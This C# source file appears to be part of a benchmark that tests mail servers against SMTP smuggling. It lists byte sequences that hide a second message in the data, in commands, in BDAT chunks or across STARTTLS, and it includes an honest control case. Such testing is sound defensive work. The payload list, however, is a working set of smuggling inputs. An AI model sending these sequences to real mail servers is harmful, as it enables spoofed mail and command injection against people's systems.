using System.Text;

namespace Platform.Benchmarks.MainJob.Smuggling;

/// <summary>
/// SMTP smuggling: a sender hides a second transaction in the data of the first, behind something that one server passes on
/// as data and the next takes for the end of data (CVE-2023-51764 and kin). By RFC 5321 (4.1.1.4, 2.3.8) only CRLF.CRLF ends
/// the data and a bare CR or LF has no place on the wire. With CHUNKING (RFC 3030) the length alone ends a chunk, so no dot
/// does; with STARTTLS (RFC 3207, CVE-2011-0411 and kin) what was sent in clear behind the command must not be carried out
/// inside. Each variant is what a client writes, step by step; a second message with the smuggled Message-ID is the leak.
/// </summary>
/// <param name="Steps">Bytes to write, each followed by reading what the server says; a null switches to TLS.</param>
internal sealed record SmugglingVariant(string Name, IReadOnlyList<byte[]?> Steps)
{
    /// <summary>All variants; <paramref name="outer"/> and <paramref name="smuggled"/> make the Message-IDs of one.</summary>
    public static IReadOnlyList<SmugglingVariant> All(Func<string, string> outer, Func<string, string> smuggled) =>
    [
        .. EndsOfData.Select(end => InData(end.Name, end.Bytes, apart: false, outer, smuggled)),
        .. EndsOfData.Select(end => InData(end.Name, end.Bytes, apart: true, outer, smuggled)),
        .. Commands.Select(c => InCommand(c.Name, c.Line, outer, smuggled)),
        .. InChunks(outer, smuggled),
        .. InStartTls(smuggled),
    ];

    /// <summary>No attack: two mails in one session, which every server must take as two.</summary>
    public static SmugglingVariant TwoHonestMails(string first, string second) => new(
        "control",
        [Bytes(Hello), Bytes(Envelope), Bytes(Head(first) + "text\r\n.\r\n"), Bytes(Envelope), Bytes(Head(second) + "text\r\n.\r\n"), Bytes("QUIT\r\n")]);

    // What some server somewhere has taken for the end of data.
    private static readonly (string Name, string Bytes)[] EndsOfData =
    [
        ("lf-dot-lf", "\n.\n"),
        ("lf-dot-crlf", "\n.\r\n"),
        ("crlf-dot-lf", "\r\n.\n"),
        ("lf-dot-cr", "\n.\r"),
        ("cr-dot-cr", "\r.\r"),
        ("cr-dot-lf", "\r.\n"),
        ("cr-dot-crlf", "\r.\r\n"),
        ("crlf-dot-cr", "\r\n.\r"),
        ("crlf-dot-cr-cr-lf", "\r\n.\r\r\n"),
        ("cr-cr-lf-dot-crlf", "\r\r\n.\r\r\n"),
        ("lf-cr-dot-lf-cr", "\n\r.\n\r"),
        ("lf-cr-dot-crlf", "\n\r.\r\n"),
        ("nul-before-dot", "\r\n\0.\r\n"),
        ("nul-after-dot", "\r\n.\0\r\n"),
        ("nul-in-line-end", "\r\n.\r\0\n"),
        ("nul-lines", "\0\n.\0\n"),
        ("dot-space", "\r\n. \r\n"),
        ("dot-tab", "\r\n.\t\r\n"),
        ("dot-dot", "\r\n..\r\n"),
        ("vertical-tab", "\v.\v"),
        ("form-feed", "\f.\f"),
        ("next-line-c1", "\u0085.\u0085"),
        ("line-separator", "\u2028.\u2028"),
        ("dot-lf-lf", "\n\n.\n\n"),
        ("backspace", "\r\n.\b\r\n"),
        ("crlf-lf-dot-lf-crlf", "\r\n\n.\n\r\n"),
    ];

    private static readonly (string Name, string Line)[] Commands =
    [
        ("recipient-lf", "RCPT TO:<info@acme.test>\nDATA\n"),
        ("recipient-cr", "RCPT TO:<info@acme.test>\rDATA\r"),
        ("recipient-nul", "RCPT TO:<info@acme.test>\0\r\n"),
        ("mail-in-path", "RCPT TO:<info@acme.test>\nMAIL FROM:<a@partner.example>\nRCPT TO:<info@acme.test>\nDATA\n"),
        ("quoted-line-end", "RCPT TO:<\"info\r\nDATA\r\n\"@acme.test>\r\n"),
    ];

    private static SmugglingVariant InData(string name, string end, bool apart, Func<string, string> outer, Func<string, string> smuggled)
    {
        var full = $"data/{name}{(apart ? "/apart" : "")}";
        var first = Head(outer(full)) + "text" + end;
        var second = Envelope + Head(smuggled(full)) + "smuggled\r\n.\r\n";
        // Together in one segment, or the second part on its own, as segments may fall.
        return apart
            ? new(full, [Bytes(Hello), Bytes(Envelope), Bytes(first), Bytes(second), Bytes("\r\n.\r\n"), Bytes("QUIT\r\n")])
            : new(full, [Bytes(Hello), Bytes(Envelope), Bytes(first + second + "\r\n.\r\n"), Bytes("QUIT\r\n")]);
    }

    // A line that is two for one reader: were its tail taken as a command of its own, the mail would follow.
    private static SmugglingVariant InCommand(string name, string line, Func<string, string> outer, Func<string, string> smuggled)
    {
        var full = "command/" + name;
        return new(full, [Bytes(Hello), Bytes("MAIL FROM:<mika@partner.example>\r\n"), Bytes(line + Head(smuggled(full)) + "smuggled\r\n.\r\n"), Bytes("RSET\r\n" + Envelope), Bytes(Head(outer(full)) + "text\r\n.\r\n"), Bytes("QUIT\r\n")]);
    }

    private static IEnumerable<SmugglingVariant> InChunks(Func<string, string> outer, Func<string, string> smuggled)
    {
        const string Start = "MAIL FROM:<mika@partner.example>\r\nRCPT TO:<info@acme.test>\r\n";
        foreach (var (name, end) in new[] { ("bdat/dot-in-chunk", "\r\n.\r\n"), ("bdat/lf-dot-lf-in-chunk", "\n.\n"), ("bdat/nul-in-chunk", "\r\n\0.\r\n") })
        {
            var body = Bytes(Head(outer(name)) + "text" + end + Envelope + Head(smuggled(name)) + "smuggled\r\n.\r\n");
            yield return new(name, [Bytes(Hello), [.. Bytes(Start), .. Bytes($"BDAT {body.Length} LAST\r\n"), .. body], Bytes("QUIT\r\n")]);
        }

        // Chunk sizes that two readers may take differently: the rest must not become commands of a mail.
        foreach (var (name, size) in new[]
        {
            ("bdat/size-negative", "-1"), ("bdat/size-hex", "0x10"), ("bdat/size-plus", "+5"), ("bdat/size-overflow", "4294967301"),
            ("bdat/size-huge", "18446744073709551621"), ("bdat/size-fraction", "5.5"), ("bdat/size-missing", ""), ("bdat/size-two", "5 5"),
        })
        {
            yield return new(name, [Bytes(Hello), Bytes($"{Start}BDAT {size} LAST\r\nhello{Envelope}{Head(smuggled(name))}smuggled\r\n.\r\n"), Bytes("QUIT\r\n")]);
        }

        // A chunk that fails must be read to its end: its bytes are data, whatever they look like.
        var payload = Bytes(Envelope + Head(smuggled("bdat/no-recipient")) + "smuggled\r\n.\r\n");
        yield return new("bdat/no-recipient", [Bytes(Hello), [.. Bytes($"MAIL FROM:<mika@partner.example>\r\nBDAT {payload.Length} LAST\r\n"), .. payload], Bytes("QUIT\r\n")]);
        var refused = Bytes(Envelope + Head(smuggled("bdat/refused-recipient")) + "smuggled\r\n.\r\n");
        yield return new("bdat/refused-recipient", [Bytes(Hello), [.. Bytes($"MAIL FROM:<mika@partner.example>\r\nRCPT TO:<nobody@elsewhere.example>\r\nBDAT {refused.Length} LAST\r\n"), .. refused], Bytes("QUIT\r\n")]);
    }

    private static IEnumerable<SmugglingVariant> InStartTls(Func<string, string> smuggled)
    {
        string Mail(string name) => Envelope + Head(smuggled(name)) + "smuggled\r\n.\r\n";
        yield return new("starttls/behind-command", [Bytes(Hello), Bytes("STARTTLS\r\n" + Mail("starttls/behind-command")), null, Bytes("NOOP\r\n"), Bytes("QUIT\r\n")]);
        yield return new("starttls/behind-command-lf", [Bytes(Hello), Bytes("STARTTLS\r\nRSET\n" + Mail("starttls/behind-command-lf")), null, Bytes("QUIT\r\n")]);
        yield return new("starttls/half-transaction", [Bytes(Hello), Bytes("STARTTLS\r\nMAIL FROM:<mika@partner.example>\r\nRCPT TO:<info@acme.test>\r\n"), null, Bytes("DATA\r\n"), Bytes(Head(smuggled("starttls/half-transaction")) + "smuggled\r\n.\r\n"), Bytes("QUIT\r\n")]);
        yield return new("starttls/transaction-across", [Bytes(Hello), Bytes("MAIL FROM:<mika@partner.example>\r\nRCPT TO:<info@acme.test>\r\nSTARTTLS\r\n"), null, Bytes("DATA\r\n"), Bytes(Head(smuggled("starttls/transaction-across")) + "smuggled\r\n.\r\n"), Bytes("QUIT\r\n")]);
        yield return new("starttls/no-hello-after", [Bytes(Hello), Bytes("STARTTLS\r\nEHLO injected.example\r\n"), null, Bytes(Mail("starttls/no-hello-after")), Bytes("QUIT\r\n")]);
    }

    private const string Hello = "EHLO mail.partner.example\r\n";
    private const string Envelope = "MAIL FROM:<mika@partner.example>\r\nRCPT TO:<info@acme.test>\r\nDATA\r\n";

    private static string Head(string id) =>
        $"From: Mika Aalto <mika@partner.example>\r\nTo: info@acme.test\r\nSubject: {id}\r\nMessage-ID: <{id}>\r\nDate: Tue, 24 Nov 2026 10:00:00 +0900\r\n\r\n";

    private static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text);
}
